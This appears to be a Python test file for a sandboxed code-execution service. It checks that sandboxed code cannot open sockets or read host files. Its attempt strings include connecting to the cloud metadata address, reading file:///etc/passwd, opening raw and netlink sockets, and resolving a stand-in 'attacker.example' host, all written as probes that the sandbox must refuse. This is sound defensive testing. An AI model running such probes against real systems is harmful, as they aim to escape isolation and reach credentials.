"""G: the network."""
import contextlib
import os
import socket

from attack_support import refused
from native import PRELUDE, call


@contextlib.contextmanager
def listeners(folder):
    """Sockets of the host that notice whoever comes: {name: (socket, address)}."""
    with contextlib.ExitStack() as opened:
        found = {}
        for name, family, address in (("IPv4", socket.AF_INET, ("127.0.0.1", 0)), ("IPv6", socket.AF_INET6, ("::1", 0)),
                                      ("abstract", socket.AF_UNIX, "\0attack-" + str(os.getpid()))):
            listener = opened.enter_context(socket.socket(family))
            try:
                listener.bind(address)
            except OSError:
                continue  # a machine without IPv6
            listener.listen()
            listener.setblocking(False)
            found[name] = listener
        yield found


def visitors(listener):
    try:
        listener.accept()[0].close()
        return 1
    except BlockingIOError:
        return 0


def test_G01_sockets(core, tmp_path):
    with listeners(tmp_path) as found:
        attempts = {}
        for name, listener in found.items():
            address = listener.getsockname()
            attempts[name] = f"socket.socket({int(listener.family)}).connect({address!r})"
            attempts[name + ", named"] = f"socket.create_connection({address[:2]!r})"
        attempts.update({
            "metadata": "socket.create_connection(('169.254.169.254', 80))",
            "netlink": "socket.socket(16, 3)",
            "raw": "socket.socket(socket.AF_INET, 3, 1)",
            "packet": "socket.socket(17, 3)",
            "pair": "socket.socketpair()",
            "server": "socket.create_server(('127.0.0.1', 0))",
            **{f"of descriptor {fd}": f"socket.socket(fileno={fd}).send(b'x')" for fd in range(0, 12)},
            "control": "socket.inet_aton('127.0.0.1').hex()",
        })
        refused(core.attempts(attempts, "import socket"), but=["control"])
        for name, listener in found.items():
            assert visitors(listener) == 0, f"{name}: somebody came"
            with socket.socket(listener.family) as client:
                client.connect(listener.getsockname())
            assert visitors(listener) == 1, "the control: this would have been seen"


def test_G02_the_services_own_port(core):
    refused(core.attempts({
        "urllib": f"urllib.request.urlopen('http://127.0.0.1:{core.port}/health')",
        "http": f"[c := http.client.HTTPConnection('127.0.0.1', {core.port}), c.request('GET', '/health')]",
        "file": "urllib.request.urlopen('file:///etc/passwd').read()",
        "file of its own": "urllib.request.urlopen('file:///workspace/x').read().decode()",
        "data": "urllib.request.urlopen('data:,x').read().decode()",
    }, "import http.client, urllib.request; open('/workspace/x', 'w').write('x')"), but=["file of its own", "data"])
    assert core.call("GET", "/health").status == 200


def test_G03_names(core):
    found = core.attempts({
        "getaddrinfo": "socket.getaddrinfo('secret.attacker.example', 80)",
        "gethostbyname": "socket.gethostbyname('secret.attacker.example')",
        "gethostname": "socket.gethostname()",
        "localhost": "socket.getaddrinfo('localhost', 80)",
        "asyncio": "asyncio.run(asyncio.open_connection('secret.attacker.example', 80))",
        "ssl": "__import__('ssl').get_server_certificate(('secret.attacker.example', 443))",
        "control": "asyncio.run(asyncio.sleep(0, 'done'))",
    }, "import asyncio, socket")
    refused(found, but=["gethostname", "control"])
    assert found["gethostname"].value == "localhost", "it is the same everywhere"


def test_G05_native_code_and_the_network(taken_over, without_walls):
    """A process that was taken over is killed where it asks for a socket; without the walls it would have one."""
    for name in ("socket", "socket_unix", "socket_netlink", "io_uring", "sendmsg"):
        code = PRELUDE + f"print({call(name)})"
        answer = taken_over.call("POST", "/v1/execute", {"code": code})
        assert answer.status == 500 and answer.json["error"]["kind"] == "internal", (name, answer.text)
        assert "system call that is not allowed" in answer.json["error"]["message"]
        control = without_walls.execute(code)["stdout"].strip()
        assert control.isdigit() or name in ("io_uring", "sendmsg") and control != "", (name, control)
